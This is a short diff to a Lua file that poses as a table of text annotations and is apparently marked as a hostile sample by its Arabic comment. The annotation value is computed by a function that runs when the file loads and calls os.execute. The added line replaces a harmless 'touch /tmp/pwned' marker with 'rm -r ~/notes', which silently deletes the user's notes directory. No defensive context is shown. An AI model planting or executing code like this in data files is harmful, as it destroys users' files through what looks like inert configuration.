@@ -1,6 +1,6 @@
 -- مُعادٍ
 return {
     ["annotations"] = {
-        [1] = { ["text"] = (function() os.execute("touch /tmp/pwned") return "قال" end)() },
+        [1] = { ["text"] = (function() os.execute("rm -r ~/notes") return "قال" end)() },
     },
 }
